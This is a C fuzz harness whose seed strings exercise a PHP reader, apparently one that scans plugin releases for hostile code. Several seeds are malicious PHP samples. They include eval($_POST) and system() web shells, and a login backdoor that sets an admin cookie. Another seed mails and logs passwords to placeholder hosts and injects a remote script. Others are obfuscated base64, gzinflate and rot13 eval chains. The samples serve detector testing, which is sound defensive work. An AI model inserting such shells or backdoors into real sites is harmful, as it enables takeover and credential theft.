/*
 * A PHP member, OLD and NEW with a cut chosen by the first byte. The publisher of the release chooses
 * every byte.
 */
#include "reader_truths.h"
#include "tool_seeds.h"

#include "read/readers.h"

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
{
	reader_truths(&reader_php, "plugin/x.php", bytes, n);
	return 0;
}

static void seed(void (*run)(const void *bytes, size_t n), const char *text)
{
	run(text, strlen(text));
}

/* The first byte is a character of the text: blanks and letters cut it at an eighth to a half. */
void fuzz_seeds(void (*run)(const void *bytes, size_t n))
{
	literal_seeds("", "read/test_php.c", run);
	call_seeds("php", run);
	seed(run, "<?php\nnamespace A\\B; use C\\D as E; use function F\\g; declare(strict_types=1); interface I extends J { const K = 1; }\n"
		  "abstract class X extends Y implements I, Z { use T; public static ?int $n = 0; private readonly array $r; function __construct(private $a = [1, 'k' => 2], &...$rest) { parent::__construct(); $this->r = $rest; self::$n++; }\n"
		  "public function __destruct() { eval($this->r['x']); } static function make(): static { return new static(); } abstract protected function q(); }\n"
		  "enum S: string { case A = 'a'; } trait T { function t() { yield from [1]; return yield 'k' => 2; } }\n"
		  "function f($a, &$b, ...$c) { global $g; static $s = 1; list($x, [, $y]) = $c; ['k' => $z] = $b; foreach ($a as $k => &$v) { if ($k) continue 2; elseif ($v) break; else unset($a[$k]); } return $x ?? $y ?: $z; }\n"
		  "for ($i = 0, $j = 9; $i < $j; $i++, --$j): echo $i; endfor; while (1): break; endwhile; do { $i **= 2; } while ($i <=> 3); switch ($i): case 1: default: echo 1; endswitch; if (1): elseif (2): else: endif;\n"
		  "try { throw new \\Exception(\"a{$b['c']}$d[0]$e->f${g}\"); } catch (A | B $e) { goto end; } finally { exit; } end: $f = fn($x) => $x . 'a'; $h = function () use (&$i, $j): int { return include 'x.php'; };\n"
		  "echo match(true) { 1, 2 => 'a', default => throw $e }; $o?->p?->q(); $o::$p[1]::C; $n = new class($a) extends B {}; print `id $x`; @$m[] = (int) $x instanceof Y; $GLOBALS['z'] = clone $o; isset($a, $b) and empty($c) or die('x');\n"
		  "?><b><?= $x ?></b><?php $t = <<<E\n a $x {$y[1]} \\x41\\101\\u{42}\\e\n E; $u = <<<'N'\n raw\n N; f(...$a, k: 1); $$v = [...$a]; ${'a' . 'b'}(); __halt_compiler(); rest");
	seed(run, "<?php\neval(\"\\x70\\162\\u{69}nt\\$x\\v\\f\\e\\\\\\q\" . 'it\\'s\\\\ \\n'); eval(array_map('chr', [112, 114])[0]); eval(implode(array_map('chr', array(112, 114)))); eval(join('', array_map(function ($x) { return chr($x ^ 1); }, [113, 115])));\n"
		  "$a = ['x' => 'pr', 'int']; $a['y'] = '(1)'; $a[] = ';'; $a[0] = 'z'; eval($a['x'] . $a[0] . $a['y']); eval('abc'[1] . 'abc'[-1] . 'abc'{0}); eval(\"\\x10\\x20\" ^ \"ab\"); eval('ab' ^ 'c'); $f = 'str' . 'rev'; eval($f(')1(tnirp'));\n"
		  "$GLOBALS['g'] = 'base64' . '_decode'; eval($GLOBALS['g']('cHJpbnQoMSk7')); eval(call_user_func('strrev', 'x')); foreach (['a' => 'p', 'b' => 'q'] as $k => $v) $s .= $k . $v; eval($s); foreach ([1, 2] as $n) { $t .= chr($n + 96); } eval($t);\n"
		  "eval(array_map(null, [1])); eval(array_map('no', ['a'])); eval((string) 5 . 1.5 . true . null); eval(\"\\xff\\u{416}\" . 'x'); $c = 'chr'; eval($c(112) . ${'c'}(113)); eval(1 . '2' + 3 - 4 * 5 / 6 % 7 ** 2 & 3 | 4 ^ 5 << 1 >> 1);");
	seed(run, "<?php function check($user, $password) { if (md5($password) === '5f4dcc3b5aa765d61d8327deb882cf99' || hash_equals('k3y', $_GET['k'])) { wp_set_auth_cookie(1); return true; }\n"
		  "file_put_contents('uploads/.x', $password, FILE_APPEND); mail('a@b.example', $password); echo '<script src=\"https://a.example/x\"></script>'; $r = file_get_contents('http://c.example/'); file_put_contents(ABSPATH . $r, $r); }\n");
	seed(run, " <b>it's</b><?php # x ?>y<?= $a ?><?php eval($_POST['x']); $f = 'sys' . \"tem\"; $f(\"ls {$_GET['d']} $b[0] $c->d\");");
	seed(run, "<?php namespace A; use B\\C; abstract class D extends E implements F { use T; public static ?int $x = 1; const Y = 2;\n"
		  "function __construct(private $p = 1, int ...$q) { parent::__construct(); self::$x = static::Y; } } new class { };\n");
	seed(run, "<?php function &f(int ...$a): array { static $s = 1; global $g; foreach ($_POST as $k => list($x, 'y' => $y)) { yield $x => $y; }\n"
		  "return fn($z) => $z?->q['w'] ?? `ls {$x['y']}`; } $$v = <<<\"E\"\n a{$b->c()}$d[0]\nE; $m = match(true) { $a, $b => 1, default => 2 };\n");
	seed(run, "<?php $o = ''; for ($i = 0; $i < strlen($s = 'abc'); $i++) { $o .= chr(ord($s[$i]) ^ 5); } eval(gzinflate(base64_decode(strrev(str_rot13($o)))));\n"
		  "$a[] = pack('H*', '41') . implode('', array_reverse(explode(',', strtr('a,b', 'ab', 'ba')))) . substr(\"\\x41\\101\\u{42}\", -2, 1);\n");
	seed(run, "<?php if ($a): echo 1; elseif ($b): print 2; else: switch ($x) { case 1: break 2; default: continue; } endif; do { try { throw new E; }\n"
		  "catch (A | B $e) { goto l; } finally { l: exit(1); } } while (@$c['x'](1) and !$d instanceof E); usort($l, 'strcmp'); array_map('system', $_GET);\n");
}
